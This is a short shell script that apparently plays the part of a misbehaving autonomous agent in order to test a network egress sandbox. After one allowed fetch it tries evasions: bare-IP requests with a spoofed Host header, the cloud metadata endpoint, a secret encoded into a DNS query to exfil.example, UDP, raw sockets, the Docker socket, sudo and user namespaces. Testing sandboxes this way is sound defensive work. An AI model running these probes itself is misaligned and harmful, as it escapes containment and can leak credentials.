#!/bin/sh
# A stand-in for an autonomous agent: some of what it does is wanted, some is not, some is sneaky.
# $1 is a URL that the policy allows. Nothing here knows of a proxy.
step() { printf '\n== %s\n' "$*"; }
show() { sed 's/^/   /' | head -n 12; }

step "allowed: fetch $1"
curl -sS -m 20 -o page.html -w '   HTTP %{http_code}, %{size_download} bytes\n' "$1" 2>&1

step "denied: a site that no rule names, in the clear; the answer says which line to add"
curl -sS -m 20 http://example.com/ 2>&1 | show

step "denied: the same over TLS"
curl -sS -m 20 https://example.com/ 2>&1 | show

step "sneaky: a bare address, IPv4 and IPv6, with another host's name"
curl -sS -m 20 -H 'Host: example.org' http://203.0.113.7/ 2>&1 | show
curl -sS -m 20 'https://[2001:db8::7]/' 2>&1 | show

step "sneaky: the cloud's metadata address"
curl -sS -m 20 http://169.254.169.254/latest/meta-data/ 2>&1 | show

step "sneaky: a secret inside a DNS question (answered here, asked nowhere)"
getent hosts c2VjcmV0LXRva2Vu.exfil.example | show

step "sneaky: UDP, ICMP and raw sockets"
python3 - <<'PY' 2>&1 | show
import socket
def attempt(what, work):
    try:
        work()
        print(what, "went out")
    except OSError as error:
        print(what, "refused:", error)
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("203.0.113.7", 9)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt("docker", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
PY

step "sneaky: more rights"
sudo -n true 2>&1 | show
unshare --user --map-root-user true 2>&1 | show
echo "   I am uid $(id -u)"
